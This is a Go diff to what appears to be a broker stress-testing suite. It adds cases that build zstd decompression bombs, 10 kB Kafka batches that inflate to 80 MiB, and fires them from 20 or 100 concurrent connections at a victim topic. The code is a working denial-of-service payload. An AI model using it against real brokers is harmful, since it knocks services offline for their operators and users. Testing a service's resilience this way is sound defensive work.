@@ -26,9 +26,33 @@ func recordAttacks() []Attack {
 			run: bombs(0x38, 128<<10),
 		},
 		{
-			Name: "bombs-with-wide-windows", Aim: "the same with windows of 128 MiB, the largest that the broker accepts, one at a time",
-			Holds: 128<<20 + some, Keeps: some, prepare: victimTopic,
+			Name: "bombs-with-wide-windows", Aim: "the same with windows of 128 MiB, the largest that a broker with a GiB accepts",
+			Holds: some, Keeps: some, prepare: victimTopic,
 			run: bombs(0x88, 128<<10),
+		},
+		{
+			Name: "bombs-that-pass", Aim: "20 connections send zstd batches of 10 kB that become 80 MiB, with windows of 8 MiB, which every broker accepts",
+			Holds: budget, Keeps: some, prepare: victimTopic,
+			run: func(ctx context.Context, m *Mob) error {
+				req := produceOf(victim, 1, lateBomb())
+				return m.again(ctx, m.connections(20), func(c *Conn, _, _ int) error {
+					resp, err := c.Ask(req)
+					if err == nil {
+						m.note(codeName(resp.(*kmsg.ProduceResponse).Topics[0].Partitions[0].ErrorCode))
+					}
+					return err
+				})
+			},
+		},
+		{
+			Name: "times-in-bombs", Aim: "100 clients ask for a time in a zstd batch of 10 kB that becomes 80 MiB",
+			Holds: budget, Keeps: some, Part: 30, prepare: timedBomb,
+			run: func(ctx context.Context, m *Mob) error {
+				req := listRepeated(1)
+				req.Topics[0].Partitions[0].Timestamp = time.Now().Add(bombTime / 2).UnixMilli()
+				request := frame(req)
+				return m.again(ctx, m.connections(100), func(c *Conn, _, _ int) error { return c.burst(request, 1) })
+			},
 		},
 		{
 			Name: "bombs-in-large-frames", Aim: "zstd batches of 65 kB that become 250 MiB",
@@ -131,7 +155,47 @@ func bomb(window byte, block, size int) []byte {
 		}
 		z = append(appendBlock(z, n, kind), 0)
 	}
-	return zstdBatch(z)
+	return zstdBatch(z, 1, 0)
+}
+
+// timedBomb makes the victim and writes a lateBomb to it.
+func timedBomb(_ context.Context, c *Conn, _ *Mob) error {
+	if err := c.makeTopic(victim, 1); err != nil {
+		return err
+	}
+	resp, err := c.Ask(produceOf(victim, 1, lateBomb()))
+	if err == nil {
+		err = produced(resp)
+	}
+	return err
+}
+
+// bombTime is how much later than all others the last record of lateBomb is.
+const bombTime = time.Hour
+
+// lateBomb is a batch of 80 records of 1 MiB in a window of 8 MiB. To find a later record than the others all of it has to be inflated.
+func lateBomb() []byte {
+	const records, size = 80, 1 << 20
+	z := []byte{0x28, 0xb5, 0x2f, 0xfd, 0, 0x68}
+	for i := range records {
+		var later int64
+		if i == records-1 {
+			later = bombTime.Milliseconds()
+		}
+		body := binary.AppendVarint(binary.AppendVarint([]byte{0}, later), int64(i))
+		body = binary.AppendVarint(append(body, 1), size)
+		head := append(binary.AppendVarint(nil, int64(len(body)+size+1)), body...)
+		z = append(appendBlock(z, len(head), 0), head...)
+		for range size / (128 << 10) {
+			z = append(appendBlock(z, 128<<10, 2), 0)
+		}
+		kind := uint32(2)
+		if i == records-1 {
+			kind |= 1
+		}
+		z = append(appendBlock(z, 1, kind), 0)
+	}
+	return zstdBatch(z, records, bombTime)
 }
 
 // appendBlock appends the header of a block: kind 0 is raw, 2 repeats one byte, and 1 more is the last.
@@ -140,14 +204,15 @@ func appendBlock(z []byte, size int, kind uint32) []byte {
 	return append(z, byte(h), byte(h>>8), byte(h>>16))
 }
 
-// zstdBatch is a batch of one record that is compressed with zstd, whatever its bytes are.
-func zstdBatch(payload []byte) []byte {
-	now := uint64(time.Now().UnixMilli())
+// zstdBatch is a batch of so many records that are compressed with zstd, whatever its bytes are. Their times span later.
+func zstdBatch(payload []byte, records int, later time.Duration) []byte {
+	now := time.Now()
 	tail := binary.BigEndian.AppendUint16(nil, uint16(record.Zstd))
-	tail = binary.BigEndian.AppendUint32(tail, 0) // last offset delta
-	tail = binary.BigEndian.AppendUint64(binary.BigEndian.AppendUint64(tail, now), now)
+	tail = binary.BigEndian.AppendUint32(tail, uint32(records-1)) // last offset delta
+	tail = binary.BigEndian.AppendUint64(tail, uint64(now.UnixMilli()))
+	tail = binary.BigEndian.AppendUint64(tail, uint64(now.Add(later).UnixMilli()))
 	tail = append(tail, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff) // no producer
-	tail = append(binary.BigEndian.AppendUint32(tail, 1), payload...)
+	tail = append(binary.BigEndian.AppendUint32(tail, uint32(records)), payload...)
 	batch := binary.BigEndian.AppendUint64(nil, 0)
 	batch = binary.BigEndian.AppendUint32(batch, uint32(4+1+4+len(tail)))
 	batch = append(batch, 0, 0, 0, 0, 2)
